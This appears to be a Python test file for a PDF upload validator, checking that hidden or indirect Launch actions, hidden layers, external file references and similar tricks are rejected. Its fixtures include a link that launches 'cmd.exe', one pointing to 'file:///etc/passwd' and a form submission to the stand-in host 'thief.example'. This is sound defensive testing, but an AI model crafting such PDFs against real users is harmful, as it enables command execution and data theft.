"""An upload was taken with a command to start a program, as long as the word for it stood in an object of its own; so were pages that look
different on paper, in another program, or without a second file. A PDF may write nearly everything in an object of its own.
"""

from __future__ import annotations

import pytest

from ledger.sealing.errors import IntakeError
from ledger.sealing.intake import check_upload

_PAGE = b"/Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R"
_FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 0"
_LAYER, _LAYERS = b"<</Type/OCG/Name(x)>>", b"/OCProperties<</OCGs[5 0 R]/D<</ON[5 0 R]>>>>"


def pdf(*more: bytes, catalog: bytes = b"", page: bytes = b"", pages: bytes = b"3 0 R", content: bytes = b"") -> bytes:
    """One page, and objects from the fifth on."""
    first = [b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog, b"<</Type/Pages/Kids[%s]/Count 1>>" % pages, b"<<%s%s>>" % (_PAGE, page)]
    out, rows = bytearray(b"%PDF-1.7\n"), b""
    for number, content_of in enumerate([*first, _stream(content), *more], 1):
        rows += b"%010d 00000 n\r\n" % len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content_of)
    size = len(more) + 5
    out += b"xref\n0 %d\n0000000000 65535 f\r\n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, rows, size, len(out))
    return bytes(out)


def _stream(entries: bytes) -> bytes:
    return b"<<%s>>\nstream\n\nendstream" % (entries if b"/Length" in entries else entries + b"/Length 0")


def link(action: bytes, *more: bytes) -> bytes:
    return pdf(*more, page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A %s>>]" % action)


HIDDEN = {
    "a program to start": (link(b"<</S 5 0 R/F(cmd.exe)>>", b"/Launch"), "Launch"),
    "a program to start, afterwards": (link(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S 5 0 R/F(x)>>>>", b"/Launch"), "Launch"),
    "a file of the machine": (link(b"<</S 5 0 R/URI(file:///etc/passwd)>>", b"/URI"), "no web page"),
    "a form to send": (link(b"<</S 5 0 R/F(http://thief.example)>>", b"6 0 R", b"/SubmitForm"), "SubmitForm"),
    "another file": (pdf(b"/Filespec", catalog=b"/X<</Type 5 0 R/F(x)>>"), "another file"),
    "a note without its type": (pdf(page=b"/Annots[<</Subtype/FreeText/Contents(0)>>]"), "FreeText"),
    "a note without a kind": (pdf(page=b"/Annots[<</Rect[0 0 9 9]>>]"), "laid over a page"),
    "a link with a look": (
        pdf(_stream(_FORM), page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/AP<</N 5 0 R>>>>]"),
        "laid over a page",
    ),
    "fields": (pdf(b"[6 0 R]", b"<</FT/Tx/T(x)>>", catalog=b"/AcroForm<</Fields 5 0 R>>"), "fill in"),
    "layers that are off": (pdf(_LAYER, b"[5 0 R]", catalog=b"/OCProperties<</OCGs[5 0 R]/D<</OFF 6 0 R>>>>"), "hidden layers"),
    "layers of no list": (pdf(_LAYER, catalog=b"/OCProperties<</D<</OFF[5 0 R]>>>>"), "hidden layers"),
    "shown when all are off": (pdf(_LAYER, b"<</Type/OCMD/OCGs[5 0 R]/P 7 0 R>>", b"/AllOff", catalog=_LAYERS), "hidden layers"),
    "shown when one is not on": (pdf(_LAYER, b"<</Type/OCMD/VE[/Not 5 0 R]>>", catalog=_LAYERS), "hidden layers"),
    "another picture on paper": (pdf(_stream(_FORM + b"/Alternates[<</Image 4 0 R/DefaultForPrinting true>>]")), "printed"),
    "a program on paper": (pdf(_stream(b"/Type/XObject/Subtype 6 0 R"), b"/PS"), "printers"),
    "a page of another file": (pdf(_stream(_FORM + b"/Ref<</F(x.pdf)/Page 0>>")), "another file"),
    "content of another file": (pdf(content=b"/F(x.txt)"), "another file"),
    "pages in a circle": (pdf(pages=b"3 0 R 2 0 R"), "twice"),
    "no page": (pdf(pages=b""), "no page"),
    "a word in a circle": (link(b"<</S 5 0 R>>", b"6 0 R", b"5 0 R"), "without end|cannot be read"),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_what_stands_in_an_object_of_its_own_is_looked_at_all_the_same(name: str) -> None:
    data, reason = HIDDEN[name]
    with pytest.raises(IntakeError, match=reason) as refused:
        check_upload(data)
    assert refused.value.fix


@pytest.mark.parametrize(
    "data",
    [
        pdf(),
        pdf(_LAYER, b"<</Type/OCMD/OCGs[5 0 R]/P/AnyOn>>", catalog=_LAYERS),
        link(b"5 0 R", b"<</S 6 0 R/URI 7 0 R>>", b"/URI", b"(https://sonang.example)"),
        pdf(b"[6 0 R]", b"<</Subtype/Link/Rect[0 0 9 9]/F 4>>", page=b"/Annots 5 0 R"),
    ],
    ids=["a page", "layers that are on", "a link in pieces", "a list of links"],
)
def test_what_is_harmless_in_an_object_of_its_own_is_taken(data: bytes) -> None:
    check_upload(data)
